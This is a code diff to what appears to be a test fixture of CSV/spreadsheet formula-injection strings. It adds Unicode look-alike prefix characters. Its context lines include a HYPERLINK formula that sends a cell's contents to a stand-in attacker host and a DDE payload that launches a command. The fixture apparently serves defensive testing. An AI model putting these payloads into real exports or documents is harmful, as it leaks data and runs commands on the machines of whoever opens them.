@@ -1,5 +1,5 @@
 /** Sixty texts that a spreadsheet, a shell behind it or a reader of CSV might take for something else than text. */
-const BEGINNINGS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", "\u200b=", "\ufeff=", "\u0000="]; // prettier-ignore
+const BEGINNINGS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫", "\t=", "\r=", "\n=", " =", "\u200b=", "\ufeff=", "\u0000="]; // prettier-ignore
 const CALLS = ["1+1", 'HYPERLINK("https://evil.example?x="&A1,"pay")', "cmd|' /C calc'!A0"];
 
 export const INJECTIONS: readonly string[] = [
